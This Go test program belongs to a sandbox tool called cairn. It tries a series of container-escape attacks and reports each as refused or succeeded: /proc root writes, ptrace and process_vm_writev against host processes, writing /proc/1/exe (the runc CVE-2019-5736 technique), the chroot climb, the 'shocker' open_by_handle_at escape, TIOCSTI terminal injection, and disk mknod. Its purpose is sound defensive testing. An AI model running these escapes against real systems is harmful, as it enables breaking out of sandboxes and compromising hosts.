// Command hostile is what a malicious package script would do, in Go
// because a shell has no ptrace or open_by_handle_at. The sandbox's test
// builds it static, runs it in a sandbox and reads one line per attack:
// "NAME: refused: WHY" when the attack failed, "NAME: SUCCEEDED" when it
// did not. Each flag names something of the host to attack.
package main

import (
	"errors"
	"flag"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

var (
	hostPid   = flag.Int("pid", 0, "a process of the host")
	hostFile  = flag.String("file", "", "a path on the host that must not appear")
	marker    = flag.String("marker", "", "a file of the host, not in the sandbox")
	diskMajor = flag.Int("disk-major", 0, "major number of a disk of the host")
	diskMinor = flag.Int("disk-minor", 0, "minor number of a disk of the host")
	sysFile   = flag.String("sys", "", "a writable sysfs file of the host")
	sysctl    = flag.String("sysctl", "", "a sysctl of the host, under /proc/sys")
	tcp       = flag.String("tcp", "", "comma-separated host:port a host listens on")
	abstract  = flag.String("abstract", "", "an abstract Unix socket of the host")
	only      = flag.String("only", "", "run only this attack")
)

func main() {
	flag.Parse()
	attacks := []struct {
		name string
		fn   func() error
	}{
		{"proc-root-write", procRootWrite},
		{"see-host-processes", seeHostProcesses},
		{"mount", func() error { return unix.Mount("none", "/tmp", "tmpfs", 0, "") }},
		{"umount-proc", func() error { return unix.Unmount("/proc", unix.MNT_DETACH) }},
		{"kill-host-process", func() error { return unix.Kill(*hostPid, unix.SIGKILL) }},
		{"mknod-disk", mknodDisk},
		{"open-host-disk", openHostDisk},
		{"ptrace-host-process", func() error { return unix.PtraceSeize(*hostPid) }},
		// PID 1 is cairn's own binary, from the host, building the sandbox.
		{"ptrace-init", func() error { return unix.PtraceSeize(1) }},
		{"open-init-exe", openInitExe},
		{"process-vm-write", processVMWrite},
		{"write-sys", func() error { return writeFile(*sysFile, "N\n") }},
		{"write-proc-sys", func() error { return writeFile("/proc/sys/"+*sysctl, "7\n") }},
		{"sethostname", func() error { return unix.Sethostname([]byte("pwned")) }},
		{"chroot-escape", chrootEscape},
		{"open-by-handle", openByHandle},
		{"load-module", func() error { return unix.FinitModule(0, "", 0) }},
		{"tcp-connect", tcpConnect},
		{"abstract-socket", func() error { return dial("unix", "@"+*abstract) }},
		{"network-interfaces", networkInterfaces},
		{"terminal-input", terminalInput},
		// Not escapes by themselves, but more kernel than a script needs:
		// the seccomp filter refuses them. (A user namespace is the
		// script test's: Go's unshare of one fails in any threaded
		// program, filter or not.)
		{"keyctl", func() error { _, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_USER_KEYRING, false); return err }},
		{"io-uring", ioURing},
	}
	for _, a := range attacks {
		if *only != "" && a.name != *only {
			continue
		}
		if err := a.fn(); err != nil {
			fmt.Printf("%s: refused: %v\n", a.name, err)
		} else {
			fmt.Printf("%s: SUCCEEDED\n", a.name)
		}
	}
}

// procRootWrite writes the host's file through every /proc/PID/root it
// can see, and through /proc/PID/cwd.
func procRootWrite() error {
	links, _ := filepath.Glob("/proc/[0-9]*/root")
	cwds, _ := filepath.Glob("/proc/[0-9]*/cwd")
	for _, l := range append(links, cwds...) {
		_ = os.MkdirAll(filepath.Join(l, filepath.Dir(*hostFile)), 0o755)
		_ = os.WriteFile(filepath.Join(l, *hostFile), []byte("pwned\n"), 0o644)
	}
	// What was written landed in the sandbox's root, if anywhere: it is
	// an escape only if the host sees it, which the test checks. A link
	// that shows the host's marker file is one.
	for _, l := range append(links, cwds...) {
		if _, err := os.Stat(filepath.Join(l, *marker)); err == nil {
			return nil
		}
	}
	return fmt.Errorf("%d links, all to the sandbox's own root", len(links)+len(cwds))
}

// seeHostProcesses succeeds when /proc shows a process besides this one
// and its ancestors in the sandbox.
func seeHostProcesses() error {
	pids, _ := filepath.Glob("/proc/[0-9]*")
	var others []string
	for _, p := range pids {
		n, _ := strconv.Atoi(filepath.Base(p))
		if n != os.Getpid() && n != 1 {
			others = append(others, filepath.Base(p))
		}
	}
	if _, err := os.Stat(fmt.Sprintf("/proc/%d", *hostPid)); err == nil {
		return nil
	}
	if len(others) > 0 {
		return nil
	}
	return fmt.Errorf("/proc shows %d processes", len(pids))
}

// openInitExe opens the host's cairn binary through PID 1 for writing,
// as the runc escape (CVE-2019-5736) did, or at least for reading.
func openInitExe() error {
	if f, err := os.OpenFile("/proc/1/exe", os.O_WRONLY, 0); err == nil {
		f.Close()
		return nil
	}
	f, err := os.Open("/proc/1/exe")
	if err != nil {
		return err
	}
	f.Close()
	return nil
}

func mknodDisk() error {
	const p = "/tmp/disk"
	if err := unix.Mknod(p, unix.S_IFBLK|0o600, int(unix.Mkdev(uint32(*diskMajor), uint32(*diskMinor)))); err != nil {
		return err
	}
	return writeFile(p, "pwned")
}

// openHostDisk looks for a disk node in the sandbox's /dev.
func openHostDisk() error {
	entries, err := os.ReadDir("/dev")
	if err != nil {
		return err
	}
	for _, e := range entries {
		var st unix.Stat_t
		if unix.Stat("/dev/"+e.Name(), &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFBLK {
			return writeFile("/dev/"+e.Name(), "pwned")
		}
	}
	return errors.New("no block device in /dev")
}

func processVMWrite() error {
	b := []byte("x")
	local := []unix.Iovec{{Base: &b[0], Len: 1}}
	remote := []unix.RemoteIovec{{Base: 0x400000, Len: 1}}
	_, err := unix.ProcessVMWritev(*hostPid, local, remote, 0)
	return err
}

// chrootEscape is the classic: chroot into a subdirectory while keeping
// a working directory outside it, then climb.
func chrootEscape() error {
	if err := os.MkdirAll("/tmp/jail", 0o755); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/jail"); err != nil {
		return err
	}
	for i := 0; i < 64; i++ {
		unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	if _, err := os.Stat(*marker); err == nil {
		return nil
	}
	return errors.New("climbed out of the jail into the sandbox's root, no further")
}

// openByHandle is the "shocker" escape: a file handle opens any inode of
// a file system, past every mount and chroot.
func openByHandle() error {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	if err != nil {
		return err
	}
	mfd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	fd, err := unix.OpenByHandleAt(mfd, h, unix.O_RDONLY)
	if err != nil {
		return err
	}
	unix.Close(fd)
	return nil
}

func tcpConnect() error {
	var errs []string
	for _, addr := range strings.Split(*tcp, ",") {
		if err := dial("tcp", addr); err == nil {
			return nil
		} else {
			errs = append(errs, err.Error())
		}
	}
	return errors.New(strings.Join(errs, "; "))
}

func dial(network, addr string) error {
	c, err := net.DialTimeout(network, addr, 2*time.Second)
	if err != nil {
		return err
	}
	c.Close()
	return nil
}

// networkInterfaces succeeds when there is an interface besides lo.
func networkInterfaces() error {
	ifs, err := net.Interfaces()
	if err != nil {
		return err
	}
	var names []string
	for _, i := range ifs {
		names = append(names, i.Name)
	}
	if len(names) == 1 && names[0] == "lo" {
		return errors.New("only lo")
	}
	return nil
}

// terminalInput types a command into the terminal cairn runs in, which
// its shell would read once cairn ends (TIOCSTI).
func terminalInput() error {
	fd, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	for _, c := range []byte("echo pwned\n") {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno != 0 {
			return errno
		}
	}
	return nil
}

func writeFile(p, data string) error {
	f, err := os.OpenFile(p, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(data)
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}

// ioURing sets up an io_uring.
func ioURing() error {
	params := make([]byte, 120) // struct io_uring_params
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params[0])), 0)
	if errno != 0 {
		return errno
	}
	unix.Close(int(fd))
	return nil
}
